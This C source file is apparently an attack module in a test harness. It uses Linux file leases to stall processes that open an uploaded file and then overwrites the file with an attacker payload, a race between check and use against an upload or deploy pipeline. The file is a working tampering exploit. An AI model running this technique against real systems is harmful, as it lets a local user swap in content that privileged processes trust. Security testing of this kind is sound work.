/*
 * The local user with a lease on the upload, which belongs to its uid: whoever opens the file is held up by the kernel
 * until the lease is given back, and the file may be altered meanwhile.
 *
 *   lessor TALLY nowrite|any TARGET PAYLOAD [EVERY]
 *
 * nowrite  lets the first reader have the file as it is, and holds up the second one
 * any      holds up everybody; it makes the file in the private folder beforehand, too
 *
 * In every EVERY-th upload it gives nothing back: the kernel does, when /proc/sys/fs/lease-break-time is over.
 */
#include "moments.h"

static int at_look, is_for_the_second, holds, every;
static int kept = -1;
static long uploads;

static void lease(int fd) {
  if (kept >= 0) close(kept);
  kept = fd;
  if (fd >= 0) fcntl(fd, F_SETLEASE, F_WRLCK);
}

/* Comes when somebody opens the file; he waits until this gives it back. */
static void broken(int signal_number) {
  (void)signal_number;
  did();
  if (holds) return;
  if (!at_look) wait_us(rand() % 4 == 0 ? rand() % 20000 : 0);
  if (at_look ? is_for_the_second : rand() % 2 == 0) pwrite(kept, payload, payload_size, 0);
  fcntl(kept, F_SETLEASE, F_UNLCK);
}

static void arrived(void) {
  is_for_the_second = 0;
  lease(open(target, O_RDWR | O_NOFOLLOW));
}

static void looked(void) {
  is_for_the_second = 1;
  fcntl(kept, F_SETLEASE, F_WRLCK);
}

static void made(const char *private) {
  char path[PATH_MAX * 2];
  snprintf(path, sizeof path, "%s/%s/%s", folder, private, private);
  /* Of the two private folders of a deploy only the first is this user's. */
  int fd = access(path, X_OK) < 0 && errno == EACCES ? -1 : open(path, O_RDWR | O_CREAT | O_NOFOLLOW, 0666);
  if (fd < 0) return;
  uploads++;
  holds = every > 0 && uploads % every == 0;
  lease(fd);
}

static int is_own(ino_t number) {
  (void)number;
  return 0;
}

int main(int argc, char **argv) {
  if (argc < 5) return 2;
  begin(argv[1], argv[3]);
  at_look = strcmp(argv[2], "nowrite") == 0;
  load(argv[4]);
  every = argc > 5 ? atoi(argv[5]) : 0;
  sigset_t all, none;
  sigfillset(&all);
  sigemptyset(&none);
  sigprocmask(SIG_SETMASK, &all, NULL);
  while_waiting = &none;
  signal(SIGIO, broken);
  const struct attack how = {
      .arrived = arrived,
      .looked = at_look ? looked : NULL,
      .made = at_look ? NULL : made,
      .is_own = is_own,
  };
  attack(&how);
}
